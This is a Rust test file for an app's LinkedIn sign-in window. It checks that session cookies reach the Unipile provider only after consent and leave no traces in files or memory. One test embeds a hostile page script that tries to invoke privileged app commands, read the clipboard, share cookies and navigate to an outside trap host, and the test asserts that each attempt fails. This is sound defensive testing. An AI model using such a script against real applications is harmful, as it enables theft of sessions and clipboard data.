//! The window in which somebody signs in to LinkedIn: what leaves it is seen first, and what
//! doesn't is gone.

use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use axum::extract::{RawQuery, State};
use axum::response::Html;
use axum::routing::get;
use rollcall_tests::canary::{Canary, traces_in_files, traces_in_process};
use rollcall_tests::journey::{Journey, REPORT};
use rollcall_tests::memory;
use rollcall_tests::sandbox::Sandbox;
use rollcall_tests::session::Session;
use rollcall_tests::sign_in_window;
use rollcall_tests::wait::{self, Look};
use rollcall_tests::window::{PATIENCE, Window, button};
use serde_json::Value;

const FILLED: Duration = Duration::from_secs(60);

#[tokio::test]
async fn cookies_leave_the_sign_in_window_once_they_were_agreed_to_and_are_found_nowhere_else() -> Result<()>
{
    Journey::told("sign-in", Journey::in_the_sandbox().await?, async |journey| {
        let email = journey.email("unipile", "Mateo Ruiz").await?;
        journey.inspect("Mateo Ruiz").await?;
        journey.start_refresh("Update cookies", "cookies").await?;

        journey.sign_in_in_the_window(&email).await?;
        journey.window.says("Nothing was shared yet").await?;
        journey.window.click(button("Don’t share")).await?;
        sign_in_window::closed(&journey.session).await?;
        journey.window.says("Nothing was shared, and nothing was kept.").await?;
        let refused = session_cookie(journey).await?;

        // Had anything of the first window been left, this one would be signed in from the start.
        journey.sign_in_in_the_window(&email).await?;
        let shared = session_cookie(journey).await?;
        ensure!(shared != refused, "the second window had the first one's session");
        journey.window.says("Unipile").await?;
        ensure!(!sent(journey, &shared).await?, "the session was shared before anybody agreed");
        journey.state_consent().await?;
        journey.window.click(button("Share with Unipile")).await?;
        journey.waiting("done").await?;
        journey.status(&["Connected"]).await?;
        journey.provider_says("unipile", "Mateo Ruiz", "running").await?;
        sign_in_window::closed(&journey.session).await?;
        ensure!(sent(journey, &shared).await?, "the provider got another session");
        ensure!(!sent(journey, &refused).await?, "a session that nobody agreed to was shared");

        let canaries = [Canary::new("refused session", &refused), Canary::new("shared session", &shared)];
        let mut found = traces_in_files(journey.session.home(), &canaries)?;
        for process in memory::tree(journey.window.driver_id())? {
            found.extend(traces_in_process(process, &canaries)?);
        }
        ensure!(found.is_empty(), "the session was found: {found:#?}");
        let shown = journey.window.script("return document.documentElement.outerHTML", vec![]).await?;
        ensure!(!shown.to_string().contains(&shared), "the window shows the session");
        Ok(())
    })
    .await
}

#[tokio::test]
async fn a_sign_in_window_that_is_closed_early_leaves_nothing_and_says_so() -> Result<()> {
    Journey::told("sign-in-closed", Journey::in_the_sandbox().await?, async |journey| {
        journey.inspect("Mateo Ruiz").await?;
        journey.start_refresh("Update cookies", "cookies").await?;
        journey.window.click(button("Open the sign-in window")).await?;
        journey.window.says("The sign-in window is open at 127.0.0.1").await?;
        sign_in_window::press_close(&journey.session).await?;
        sign_in_window::closed(&journey.session).await?;
        journey
            .window
            .says("The sign-in window was closed. Nothing was shared, and nothing was kept.")
            .await?;
        journey.waiting("cookies").await?;
        journey.window.find(button("Use these cookies")).await?;

        journey.window.click(button("Open the sign-in window")).await?;
        sign_in_window::opened(&journey.session).await?;
        journey.window.click(button("Stop refreshing")).await?;
        sign_in_window::closed(&journey.session).await
    })
    .await
}

#[tokio::test]
async fn a_page_in_the_sign_in_window_can_call_nothing_and_go_nowhere() -> Result<()> {
    let elsewhere = Trap::open(|_| "<p>elsewhere".to_owned()).await?;
    let page = hostile(&elsewhere.address);
    let trap = Trap::open(move |path| if path == "/login" { page.clone() } else { String::new() }).await?;
    let sandbox = Sandbox::start(&[])?;
    let mut endpoints: Value = serde_json::from_str(&sandbox.line())?;
    endpoints["linkedin"]["www"] = trap.address.clone().into();

    let session = Session::start().await?;
    let window = Window::rollcall(&session, &[REPORT, ("ROLLCALL_SANDBOX", &endpoints.to_string())]).await?;
    window.click(button("Open the sandbox")).await?;
    window.says_within(" linked", FILLED).await?;
    Journey::told("sign-in-hostile", Journey { window, sandbox, session }, async |journey| {
        journey.inspect("Mateo Ruiz").await?;
        journey.start_refresh("Update cookies", "cookies").await?;
        journey.window.click(button("Open the sign-in window")).await?;
        let told = wait::until("the page to have tried everything", PATIENCE, async || {
            let told = trap.told();
            Ok(match told.iter().any(|one| one == "tried everything") {
                true => Look::There(told),
                false => Look::NotYet(format!("{told:?}")),
            })
        })
        .await?;
        ensure!(told.iter().filter(|one| one.starts_with("refused")).count() == ATTEMPTS, "{told:#?}");
        ensure!(!told.iter().any(|one| one.starts_with("answered")), "{told:#?}");
        ensure!(elsewhere.told().is_empty(), "the window went elsewhere: {:?}", elsewhere.told());
        Ok(())
    })
    .await
}

/// How many calls the hostile page tries.
const ATTEMPTS: usize = 5;

/// A page that tries to call what only the main window may, then to leave LinkedIn.
fn hostile(elsewhere: &str) -> String {
    const PAGE: &str = r#"<!doctype html><title>LinkedIn</title><script>
      const tell = (what) => fetch('/told?' + encodeURIComponent(what));
      const attempt = async (what, act) => {
        try { await tell('answered ' + what + ' ' + JSON.stringify(await act())); }
        catch (error) { await tell('refused ' + what + ' ' + error); }
      };
      (async () => {
        const call = (name, input) => window.__TAURI_INTERNALS__.invoke(name, input);
        await attempt('a command', () => call('workspace_state'));
        await attempt('its own cookies', () => call('sign_in_share', { id: 'x', input: { cookies: ['li_at'], country: null, keep: false } }));
        await attempt('listening', () => call('plugin:event|listen', { event: 'rollcall-event', target: { kind: 'Any' }, handler: 1 }));
        await attempt('its own window', () => call('plugin:window|title', { label: 'main' }));
        await attempt('the clipboard', () => call('plugin:clipboard-manager|read_text'));
        window.open('ELSEWHERE/opened');
        document.body.innerHTML = '<iframe src="ELSEWHERE/framed"></iframe>';
        location.href = 'ELSEWHERE/left';
        setTimeout(() => tell('tried everything'), 1500);
      })();
    </script><body></body>"#;
    PAGE.replace("ELSEWHERE", elsewhere)
}

/// A web server that notes who comes: the path, or what a page tells it.
struct Trap {
    address: String,
    visits: Arc<Mutex<Vec<String>>>,
    serving: tokio::task::JoinHandle<()>,
}

impl Trap {
    async fn open(page: impl Fn(&str) -> String + Clone + Send + Sync + 'static) -> Result<Self> {
        let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await?;
        let address = format!("http://{}", listener.local_addr()?);
        let visits = Arc::new(Mutex::new(Vec::new()));
        let told = |State(visits): State<Arc<Mutex<Vec<String>>>>, RawQuery(query): RawQuery| async move {
            let query = query.unwrap_or_default();
            let words = reqwest::Url::parse(&format!("http://x/?w={query}")).ok();
            let words = words.and_then(|url| url.query_pairs().next().map(|(_, words)| words.into_owned()));
            noted(&visits).push(words.unwrap_or_default());
        };
        let shown = move |State(visits): State<Arc<Mutex<Vec<String>>>>, uri: axum::http::Uri| {
            let page = page.clone();
            async move {
                noted(&visits).push(uri.path().to_owned());
                Html(page(uri.path()))
            }
        };
        let app = axum::Router::new().route("/told", get(told)).fallback(shown).with_state(visits.clone());
        let serving = tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        Ok(Self { address, visits, serving })
    }

    fn told(&self) -> Vec<String> {
        noted(&self.visits).clone()
    }
}

fn noted(visits: &Mutex<Vec<String>>) -> MutexGuard<'_, Vec<String>> {
    visits.lock().unwrap_or_else(PoisonError::into_inner)
}

impl Drop for Trap {
    fn drop(&mut self) {
        self.serving.abort();
    }
}

/// The newest session that the sign-in window's browser had.
async fn session_cookie(journey: &Journey) -> Result<String> {
    let requests = journey.sandbox.requests("linkedin").await?;
    let cookies = requests.iter().rev().filter_map(|request| request["headers"]["cookie"].as_str());
    let session = cookies
        .flat_map(|cookies| cookies.split(';'))
        .find_map(|cookie| cookie.trim().strip_prefix("li_at=").map(str::to_owned));
    session.context("nobody was signed in")
}

async fn sent(journey: &Journey, secret: &str) -> Result<bool> {
    Ok(Value::from(journey.sandbox.requests("unipile").await?).to_string().contains(secret))
}
